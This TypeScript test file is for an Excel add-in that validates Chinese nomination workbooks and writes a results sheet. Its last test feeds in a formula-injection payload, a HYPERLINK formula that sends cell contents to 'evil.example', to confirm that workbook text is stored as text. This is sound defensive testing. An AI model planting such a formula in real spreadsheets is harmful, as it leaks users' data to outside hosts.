/// <reference types="office-js" />
import ExcelJS from 'exceljs';
import * as annotate from '../../../src/adapters/exceljs/annotate';
import { markFindings } from '../../../src/adapters/office';
import { linkFormula, RESULT_HEADERS, RESULT_WIDTHS, RESULTS_SHEET_NAME, SEVERITY_LABELS, uniqueSheetName } from '../../../src/adapters/office/results-sheet';
import type { Finding, Severity } from '../../../src/core/model/findings';
import { parseCellAddress } from '../../../src/core/model/grid';
import { ExcelSim } from './sim';

function finding(sheet: string, cell: string, severity: Severity, rule: string, zh: string, nominee?: string): Finding {
  const pos = parseCellAddress(cell)!;
  return { sheet, cell, row: pos.row, col: pos.col, severity, rule, message: { zh, en: `EN ${zh}` }, ...(nominee ? { nominee } : {}) };
}

const ODD = `It's "odd"`;
const FINDINGS: Finding[] = [
  finding('推荐表', 'C3', 'warning', 'id.number-typed', '身份证号以数字形式录入', '张三'),
  finding('推荐表', 'C3', 'error', 'id.checksum', '身份证号校验位错误', '张三'),
  finding('推荐表', 'B4', 'info', 'name.note', '姓名含空格已忽略', '李四'),
  finding(ODD, 'B2', 'info', 'odd.sheet', '工作表名含引号'),
  finding('不存在的表', 'A1', 'error', 'table.missing', '缺少工作表'),
];

describe('results sheet', () => {
  it('keeps the labels of the exceljs adapter (copied to keep exceljs out of the add-in bundle)', () => {
    expect(SEVERITY_LABELS).toEqual(annotate.SEVERITY_LABELS);
    expect(RESULTS_SHEET_NAME).toEqual(annotate.RESULTS_SHEET_NAME);
    expect(uniqueSheetName('校验结果', ['校验结果', '校验结果 (2)'])).toBe('校验结果 (3)');
    expect(linkFormula(ODD, 'B2')).toBe(`=HYPERLINK("#'It''s ""odd""'!B2","B2")`);
  });

  it('has the same rows as the annotated copy the exceljs adapter writes', async () => {
    const x = new ExcelJS.Workbook();
    x.addWorksheet('推荐表').getCell('A1').value = 'x';
    x.addWorksheet(ODD).getCell('A1').value = 'y';
    const bytes = await annotate.annotateWorkbook((await x.xlsx.writeBuffer()) as unknown as Buffer, FINDINGS, { lang: 'zh', programName: '2025 年度上海工匠' });
    const annotated = new ExcelJS.Workbook();
    await annotated.xlsx.load(Buffer.from(bytes) as unknown as Parameters<ExcelJS.Xlsx['load']>[0]);
    const ref = annotated.getWorksheet('校验结果')!;

    const sim = new ExcelSim({ api: 17 });
    sim.wb.addSheet('推荐表', [['x']]);
    sim.wb.addSheet(ODD, [['y']]);
    await markFindings(sim.context(), FINDINGS, { lang: 'zh', resultsSheet: true, programName: '2025 年度上海工匠' });
    const ours = sim.wb.sheet('校验结果');

    expect(ours.value('A1')).toBe(ref.getCell('A1').value);
    for (let r = 2; r <= 2 + FINDINGS.length; r++) {
      for (let c = 1; c <= 6; c++) {
        const want = ref.getCell(r, c).value as unknown;
        const got = ours.get(r - 1, c - 1);
        const wantText = want && typeof want === 'object' && 'formula' in want ? `=${(want as { formula: string }).formula}` : want ?? '';
        const gotText = got?.formula ?? got?.value ?? '';
        expect([r, c, gotText]).toEqual([r, c, wantText]);
      }
    }
    expect(RESULT_HEADERS.zh).toEqual(['A', 'B', 'C', 'D', 'E', 'F'].map((c) => ref.getCell(`${c}2`).value));
    RESULT_WIDTHS.forEach((w, i) => expect(ref.getColumn(i + 1).width).toBe(w));
  });

  it('prints like the annotated copy: A4 landscape one page wide, title rows repeated, print area to the last finding', async () => {
    const x = new ExcelJS.Workbook();
    x.addWorksheet('推荐表').getCell('A1').value = 'x';
    const bytes = await annotate.annotateWorkbook((await x.xlsx.writeBuffer()) as unknown as Buffer, FINDINGS, { lang: 'zh' });
    const annotated = new ExcelJS.Workbook();
    await annotated.xlsx.load(Buffer.from(bytes) as unknown as Parameters<ExcelJS.Xlsx['load']>[0]);
    const ref = annotated.getWorksheet('校验结果')!.pageSetup;

    const sim = new ExcelSim({ api: 9 });
    sim.wb.addSheet('推荐表', [['x']]);
    await markFindings(sim.context(), FINDINGS, { lang: 'zh', resultsSheet: true, programName: '2025 年度上海工匠' });
    const pl = sim.wb.sheet('校验结果').pageLayout;
    const last = 2 + FINDINGS.length;
    expect(pl).toMatchObject({
      orientation: 'Landscape',
      paperSize: 'A4',
      zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 },
      printTitleRows: '$1:$2',
      printArea: `A1:F${last}`,
      centerHeader: '&A',
      centerFooter: '第 &P 页，共 &N 页',
    });
    expect(ref).toMatchObject({ orientation: 'landscape', paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0, printArea: `A1:F${last}` });
    expect(ref.printTitlesRow).toMatch(/^\$?1:\$?2$/);
  });
});

describe('results sheet in Excel: text from the workbook is never taken for a formula (issue 10)', () => {
  it('every cell holding a name, sheet or message is formatted as text before it is written; the links are ours', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
    const sim = new ExcelSim({ api: 17 });
    sim.wb.addSheet('=A1', [['x']]);
    await markFindings(sim.context(), [finding('=A1', 'A1', 'error', 'id.checksum', `身份证号“${hostile}”校验位错误`, hostile)], { lang: 'zh', resultsSheet: true, programName: 'x' });
    const ours = sim.wb.sheet('校验结果');
    let hostileCells = 0;
    for (let c = 0; c < 6; c++) {
      const cell = ours.get(2, c)!;
      const text = String(cell.formula ?? cell.value ?? '');
      if (cell.formula && /^=HYPERLINK\("#/.test(cell.formula)) continue; // the link to the cell: ours
      // Excel keeps what is written into a text-formatted ("@") cell as text, "=" or not.
      expect([c, cell.numberFormat]).toEqual([c, '@']);
      if (text.includes('evil.example') || text === '=A1') hostileCells++;
    }
    expect(hostileCells).toBeGreaterThanOrEqual(2);
  });
});
